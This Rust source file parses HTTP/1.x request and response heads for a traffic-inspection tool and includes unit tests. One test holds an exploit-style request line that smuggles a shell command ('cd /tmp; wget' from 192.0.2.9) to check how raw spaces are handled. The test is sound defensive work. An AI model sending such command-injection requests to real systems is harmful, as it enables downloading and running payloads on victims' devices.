//! HTTP/1.x request heads (RFC 9112 §3, §5), read with `httparse`.
//!
//! [`parse_request`] looks at the start of a client stream: a whole request head, a head
//! still arriving, or something that is not HTTP. The body is not read; its length is
//! reported so the caller can skip it and find the next request on a persistent connection.

/// A request head larger than this is not a real client's (nginx's default limit is 8 KiB
/// per header line and 32 KiB in all); the stream is given up instead of buffered.
pub const MAX_HEAD_LEN: usize = 32 * 1024;
/// Header lines read per request; more is abuse, not a browser or SDK.
const MAX_HEADERS: usize = 96;

/// Methods that start a request, from RFC 9110, WebDAV (RFC 4918), and SSDP over UDP.
const METHODS: &[&[u8]] = &[
    b"GET",
    b"POST",
    b"PUT",
    b"DELETE",
    b"HEAD",
    b"OPTIONS",
    b"PATCH",
    b"CONNECT",
    b"TRACE",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"SEARCH",
    b"REPORT",
    b"M-SEARCH",
    b"NOTIFY",
    b"SUBSCRIBE",
    b"UNSUBSCRIBE",
];

/// How the body after a request head is delimited.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Body {
    /// `Content-Length: n` (0 when absent on a request, RFC 9112 §6.3).
    Length(u64),
    /// `Transfer-Encoding: chunked`.
    Chunked,
}

/// The parts of a request aigress reports.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request<'a> {
    pub method: &'a str,
    /// The request target without its query string.
    pub path: &'a str,
    /// The Host header as sent, port included.
    pub host: Option<&'a [u8]>,
    pub user_agent: Option<&'a [u8]>,
    /// Length of the head including the blank line.
    pub head_len: usize,
    pub body: Body,
}

/// The outcome of reading a request head.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Scan<'a> {
    Complete(Request<'a>),
    Incomplete,
    /// A head that has not ended within [`MAX_HEAD_LEN`].
    TooLong,
    NotHttp,
}

/// Whether a stream starts like an HTTP request: a known method and a space. Deciding on
/// the method keeps binary protocols on port 80 from being buffered as HTTP.
pub fn looks_like_request(stream: &[u8]) -> bool {
    METHODS.iter().any(|m| {
        let n = m.len().min(stream.len());
        match (stream.get(..n), m.get(..n)) {
            (Some(have), Some(want)) if have == want => {
                stream.len() <= m.len() || stream.get(m.len()) == Some(&b' ')
            }
            _ => false,
        }
    })
}

/// How many leading bytes of `stream` agree with some method's spelling: what a stream
/// that looked like a request's start but is not one is skipped by, so what follows (a
/// ClientHello after PostgreSQL's one-byte `S`) is recognised in turn.
pub fn method_prefix_len(stream: &[u8]) -> usize {
    METHODS
        .iter()
        .map(|m| m.iter().zip(stream).take_while(|(a, b)| a == b).count())
        .max()
        .unwrap_or(0)
}

/// Reads the request head at the start of `stream`.
///
/// httparse reads well-formed heads. A head it rejects but that has a request line and
/// ends in a blank line — a header name with a stray byte, an HTTP/0.9-style line without
/// a version — is read leniently, line by line, as tshark and servers in the wild read it:
/// what matters is the request line and the Host header, not strictness.
pub fn parse_request(stream: &[u8]) -> Scan<'_> {
    if !looks_like_request(stream) {
        return Scan::NotHttp;
    }
    let mut headers = [httparse::EMPTY_HEADER; MAX_HEADERS];
    let mut req = httparse::Request::new(&mut headers);
    let head_len = match req.parse(stream) {
        Ok(httparse::Status::Complete(n)) => n,
        Ok(httparse::Status::Partial) if stream.len() < MAX_HEAD_LEN => return Scan::Incomplete,
        Ok(httparse::Status::Partial) => return Scan::TooLong,
        Err(_) => return parse_lenient(stream),
    };
    let (Some(method), Some(target)) = (req.method, req.path) else {
        return Scan::NotHttp;
    };
    let mut fields = HeadFields::default();
    for h in req.headers.iter() {
        fields.read(h.name.as_bytes(), h.value);
    }
    Scan::Complete(fields.request(method, target, head_len))
}

/// How a response's body is delimited (RFC 9112 §6.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResponseBody {
    /// No body: 1xx, 204 and 304 responses.
    None,
    Length(u64),
    Chunked,
    /// Neither a length nor chunks: the body runs until the server closes the connection.
    UntilClose,
}

/// A response head: its status and how its body is delimited.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Response {
    pub status: u16,
    /// Length of the head including the blank line.
    pub head_len: usize,
    pub body: ResponseBody,
    /// `Upgrade: h2c`: with status 101, the connection is HTTP/2 from here on.
    pub upgrade_h2c: bool,
}

/// The outcome of reading a response head.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResponseScan {
    Complete(Response),
    Incomplete,
    TooLong,
    NotHttp,
}

/// Whether a stream starts like an HTTP/1.x response, or could once more bytes come.
pub fn looks_like_response(stream: &[u8]) -> bool {
    const START: &[u8] = b"HTTP/1.";
    let n = START.len().min(stream.len());
    !stream.is_empty() && stream.get(..n) == START.get(..n)
}

/// Reads the response head at the start of a server's stream.
pub fn parse_response(stream: &[u8]) -> ResponseScan {
    if !looks_like_response(stream) {
        return ResponseScan::NotHttp;
    }
    let mut headers = [httparse::EMPTY_HEADER; MAX_HEADERS];
    let mut resp = httparse::Response::new(&mut headers);
    let head_len = match resp.parse(stream) {
        Ok(httparse::Status::Complete(n)) => n,
        Ok(httparse::Status::Partial) if stream.len() < MAX_HEAD_LEN => {
            return ResponseScan::Incomplete;
        }
        Ok(httparse::Status::Partial) => return ResponseScan::TooLong,
        Err(_) => return ResponseScan::NotHttp,
    };
    let Some(status) = resp.code else {
        return ResponseScan::NotHttp;
    };
    let mut fields = HeadFields::default();
    for h in resp.headers.iter() {
        fields.read(h.name.as_bytes(), h.value);
    }
    let body = match (status, fields.body) {
        (100..=199 | 204 | 304, _) => ResponseBody::None,
        (_, Some(Body::Chunked)) => ResponseBody::Chunked,
        (_, Some(Body::Length(n))) => ResponseBody::Length(n),
        (_, None) => ResponseBody::UntilClose,
    };
    ResponseScan::Complete(Response {
        status,
        head_len,
        body,
        upgrade_h2c: fields.upgrade_h2c,
    })
}

/// The headers aigress reads from a head.
#[derive(Default)]
struct HeadFields<'a> {
    host: Option<&'a [u8]>,
    user_agent: Option<&'a [u8]>,
    body: Option<Body>,
    upgrade_h2c: bool,
}

impl<'a> HeadFields<'a> {
    fn read(&mut self, name: &[u8], value: &'a [u8]) {
        if name.eq_ignore_ascii_case(b"host") {
            self.host.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"user-agent") {
            self.user_agent.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"content-length") {
            if let Some(n) = std::str::from_utf8(value)
                .ok()
                .and_then(|s| s.trim().parse().ok())
                && self.body != Some(Body::Chunked)
            {
                self.body = Some(Body::Length(n));
            }
        } else if name.eq_ignore_ascii_case(b"transfer-encoding")
            && value
                .len()
                .checked_sub(b"chunked".len())
                .and_then(|start| value.get(start..))
                .is_some_and(|last| last.eq_ignore_ascii_case(b"chunked"))
        {
            self.body = Some(Body::Chunked);
        } else if name.eq_ignore_ascii_case(b"upgrade") {
            self.upgrade_h2c |= value.trim_ascii().eq_ignore_ascii_case(b"h2c");
        }
    }

    fn request(self, method: &'a str, target: &'a str, head_len: usize) -> Request<'a> {
        Request {
            method,
            path: target.split(['?', '#']).next().unwrap_or(target),
            host: self.host,
            user_agent: self.user_agent,
            head_len,
            body: self.body.unwrap_or(Body::Length(0)),
        }
    }
}

/// A head httparse rejected, read as Suricata's HTTP parser reads it: the request line is
/// the method, then the target up to the last space before an `HTTP/` version (so a target
/// with raw spaces, common in exploit traffic, is kept whole), or to the end of the line
/// without one; the head must end in a blank line; header lines without a colon are
/// skipped.
fn parse_lenient(stream: &[u8]) -> Scan<'_> {
    let Some(end) = find_head_end(stream) else {
        return if stream.len() < MAX_HEAD_LEN {
            Scan::Incomplete
        } else {
            Scan::TooLong
        };
    };
    // The blank line is LF LF or LF CR LF.
    let terminator = if stream.get(end.saturating_add(1)) == Some(&b'\r') {
        3
    } else {
        2
    };
    let head_len = end.saturating_add(terminator);
    match stream.get(..end).and_then(|head| read_head(head, head_len)) {
        Some(request) => Scan::Complete(request),
        None => Scan::NotHttp,
    }
}

/// The request a client began but never finished (the stream ended, or a hole cut it):
/// its request line, whole or cut at the end of the bytes, and its whole header lines.
/// Suricata logs such requests at the end of the stream; so does aigress.
pub fn partial_request(bytes: &[u8]) -> Option<Request<'_>> {
    if !looks_like_request(bytes) {
        return None;
    }
    let bytes = bytes.get(..bytes.len().min(MAX_HEAD_LEN))?;
    // A line cut short is not read, unless it is the request line itself.
    let whole_lines = match bytes.iter().rposition(|b| *b == b'\n') {
        Some(last) => bytes.get(..last)?,
        None => bytes,
    };
    read_head(whole_lines, bytes.len())
}

/// Reads a head's lines leniently (see [`parse_lenient`]).
/// Ends because each header line consumes bytes up to its line feed, within the head.
fn read_head(head: &[u8], head_len: usize) -> Option<Request<'_>> {
    let mut lines = head
        .split(|b| *b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let line = lines.next()?;
    let space = line.iter().position(|b| *b == b' ')?;
    let method = line.get(..space)?;
    let rest = line.get(space.saturating_add(1)..)?;
    let token = |b: &[u8]| !b.is_empty() && b.iter().all(|c| c.is_ascii_graphic());
    // With a version at the end, the target is everything before it, spaces and all; an
    // HTTP/0.9-style line without one has a target without spaces.
    let target = match rest.iter().rposition(|b| *b == b' ') {
        Some(last) if rest.get(last.saturating_add(1)..)?.starts_with(b"HTTP/") => {
            let target = rest.get(..last)?;
            let text = target.iter().all(|c| c.is_ascii_graphic() || *c == b' ');
            (text && target.first().is_some_and(u8::is_ascii_graphic)).then_some(target)?
        }
        _ => token(rest).then_some(rest)?,
    };
    if !token(method) {
        return None;
    }
    let (Ok(method), Ok(target)) = (std::str::from_utf8(method), std::str::from_utf8(target))
    else {
        return None;
    };
    let mut fields = HeadFields::default();
    for header in lines.take(MAX_HEADERS) {
        if let Some(colon) = header.iter().position(|b| *b == b':')
            && let (Some(name), Some(value)) =
                (header.get(..colon), header.get(colon.saturating_add(1)..))
        {
            fields.read(name, value.trim_ascii());
        }
    }
    Some(fields.request(method, target, head_len))
}

/// A Host header's name and port, as Suricata splits them: `api.example:8080` is
/// (`api.example`, 8080), `[2001:db8::1]:80` is (`[2001:db8::1]`, 80): the literal keeps its
/// brackets, as Suricata writes it; a bare IPv6 literal or
/// a name without a port is the name alone. A port of digits that does not fit 16 bits is
/// dropped with its colon; anything else after a colon is part of the name.
pub fn split_host(host: &str) -> (&str, Option<u16>) {
    if let Some(v6) = host.strip_prefix('[') {
        return match v6.split_once(']') {
            Some((addr, rest)) => (
                host.get(..addr.len().saturating_add(2)).unwrap_or(host),
                rest.strip_prefix(':').and_then(|p| p.parse().ok()),
            ),
            None => (host, None),
        };
    }
    match host.rsplit_once(':') {
        Some((name, port)) if !name.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => {
            (name, port.parse().ok())
        }
        _ => (host, None),
    }
}

/// Where the blank line ending a head starts, if `bytes` hold one: CRLF CRLF, or the bare
/// LF LF that httparse also accepts. A caller that searched a prefix already can resume
/// three bytes before its end.
pub fn find_head_end(bytes: &[u8]) -> Option<usize> {
    bytes.windows(2).enumerate().find_map(|(i, w)| match w {
        b"\n\n" => Some(i),
        b"\n\r" if bytes.get(i.saturating_add(2)) == Some(&b'\n') => Some(i),
        _ => None,
    })
}

/// The outcome of reading one chunk-size line of a chunked body (RFC 9112 §7.1).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Chunk {
    /// The line and the data that follows it: skip `line_len`, then `data_len` bytes and CRLF.
    Data {
        line_len: usize,
        data_len: u64,
    },
    /// The last chunk; the trailer section follows.
    Last {
        line_len: usize,
    },
    Incomplete,
    Invalid,
}

/// Reads a chunk-size line at the start of `stream`.
pub fn chunk_size(stream: &[u8]) -> Chunk {
    match httparse::parse_chunk_size(stream) {
        Ok(httparse::Status::Complete((line_len, 0))) => Chunk::Last { line_len },
        Ok(httparse::Status::Complete((line_len, data_len))) => Chunk::Data { line_len, data_len },
        Ok(httparse::Status::Partial) if stream.len() < 1024 => Chunk::Incomplete,
        _ => Chunk::Invalid,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_headers_split_into_name_and_port() {
        assert_eq!(split_host("api.example:8080"), ("api.example", Some(8080)));
        assert_eq!(split_host("api.example"), ("api.example", None));
        assert_eq!(split_host("[2001:db8::1]:80"), ("[2001:db8::1]", Some(80)));
        assert_eq!(split_host("[2001:db8::1]"), ("[2001:db8::1]", None));
        assert_eq!(split_host("2001:db8::1"), ("2001:db8::1", None));
        assert_eq!(split_host("[2001:db8::1"), ("[2001:db8::1", None));
        assert_eq!(split_host("host:99999"), ("host", None));
        assert_eq!(split_host("host:http"), ("host:http", None));
    }

    const REQ: &[u8] =
        b"POST /v1/chat/completions?stream=true HTTP/1.1\r\nHost: api.openai.com\r\n\
User-Agent: OpenAI/Python 1.54.0\r\nContent-Length: 12\r\n\r\n{\"model\":1}\n";

    #[test]
    fn reads_method_path_host_agent_and_body_length() {
        let Scan::Complete(r) = parse_request(REQ) else {
            panic!()
        };
        assert_eq!(r.method, "POST");
        assert_eq!(r.path, "/v1/chat/completions");
        assert_eq!(r.host, Some(&b"api.openai.com"[..]));
        assert_eq!(r.user_agent, Some(&b"OpenAI/Python 1.54.0"[..]));
        assert_eq!(r.body, Body::Length(12));
        assert_eq!(&REQ[r.head_len..], b"{\"model\":1}\n");
    }

    #[test]
    fn every_prefix_is_incomplete_and_binary_is_not_http() {
        let head_end = REQ.len() - 12;
        for cut in 0..head_end {
            assert_eq!(parse_request(&REQ[..cut]), Scan::Incomplete, "cut {cut}");
        }
        assert_eq!(parse_request(b"\x16\x03\x01\x02\x00"), Scan::NotHttp);
        assert_eq!(parse_request(b"GETTER / HTTP/1.1\r\n"), Scan::NotHttp);
        let response = |head: &[u8]| match parse_response(head) {
            ResponseScan::Complete(r) => (r.status, r.body),
            other => panic!("{other:?}"),
        };
        assert_eq!(
            response(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\n"),
            (200, ResponseBody::Length(12))
        );
        assert_eq!(
            response(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"),
            (200, ResponseBody::Chunked)
        );
        assert_eq!(
            response(b"HTTP/1.0 200 OK\r\n\r\n"),
            (200, ResponseBody::UntilClose)
        );
        assert_eq!(
            response(b"HTTP/1.1 304 Not Modified\r\nContent-Length: 9\r\n\r\n"),
            (304, ResponseBody::None)
        );
        assert_eq!(
            parse_response(b"HTTP/1.1 200 OK\r\n"),
            ResponseScan::Incomplete
        );
        assert_eq!(parse_response(b"HTTP/9"), ResponseScan::NotHttp);
        let upgrade = |head: &[u8]| match parse_response(head) {
            ResponseScan::Complete(r) => r.upgrade_h2c,
            other => panic!("{other:?}"),
        };
        assert!(upgrade(
            b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: H2C \r\n\r\n"
        ));
        assert!(!upgrade(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n"
        ));
        assert!(looks_like_response(b"HTT") && !looks_like_response(b"GET "));
        assert_eq!(method_prefix_len(b"S\x16\x03\x03"), 1);
        assert_eq!(method_prefix_len(b"GETTER"), 3);
        assert_eq!(method_prefix_len(b"\x16\x03"), 0);
        assert!(looks_like_request(b"M-SEARCH * HTTP/1.1\r\n"));
    }

    #[test]
    fn heads_httparse_rejects_are_read_as_tshark_reads_them() {
        let Scan::Complete(r) = parse_request(b"GET /\r\n\r\nrest") else {
            panic!()
        };
        assert_eq!(
            (r.method, r.path, r.host, r.head_len),
            ("GET", "/", None, 9)
        );
        let head = b"POST /mms HTTP/1.1\r\nH\xf4st: a\r\nHost: b\r\nContent-Length: 3\r\n\r\nabc";
        let Scan::Complete(r) = parse_request(head) else {
            panic!()
        };
        assert_eq!(r.host, Some(&b"b"[..]));
        assert_eq!(r.body, Body::Length(3));
        assert_eq!(r.head_len, head.len() - 3);
        assert_eq!(parse_request(b"GET /bad.html\r\n"), Scan::Incomplete);
        assert_eq!(parse_request(b"GET a b c\r\n\r\n"), Scan::NotHttp);
        assert_eq!(parse_request(b"GET / FTP/1\r\n\r\n"), Scan::NotHttp);
        // A raw space in the target, as exploit traffic sends it: split at the last space
        // before the version, as Suricata's HTTP parser splits it.
        let Scan::Complete(r) =
            parse_request(b"GET /shell?cd+/tmp;wget+ http://192.0.2.9/x HTTP/1.1\r\n\r\n")
        else {
            panic!()
        };
        assert_eq!((r.method, r.path), ("GET", "/shell"));
        let partial =
            partial_request(b"GET /login HTTP/1.1\r\nHost: api.example\r\nUser-Ag").unwrap();
        assert_eq!(
            (partial.path, partial.host, partial.user_agent),
            ("/login", Some(&b"api.example"[..]), None)
        );
        assert!(partial_request(b"GET /").is_some());
        assert!(partial_request(b"HELLO /").is_none());
        assert_eq!(find_head_end(b"a\nb\r\n\r\n"), Some(4));
        assert_eq!(find_head_end(b"a\n\n"), Some(1));
        assert_eq!(find_head_end(b"a\r\nb"), None);
    }

    #[test]
    fn chunk_lines() {
        assert_eq!(
            chunk_size(b"1a\r\nxx"),
            Chunk::Data {
                line_len: 4,
                data_len: 26
            }
        );
        assert_eq!(chunk_size(b"0\r\n\r\n"), Chunk::Last { line_len: 3 });
        assert_eq!(chunk_size(b"1"), Chunk::Incomplete);
        assert_eq!(chunk_size(b"zz\r\n"), Chunk::Invalid);
    }
}
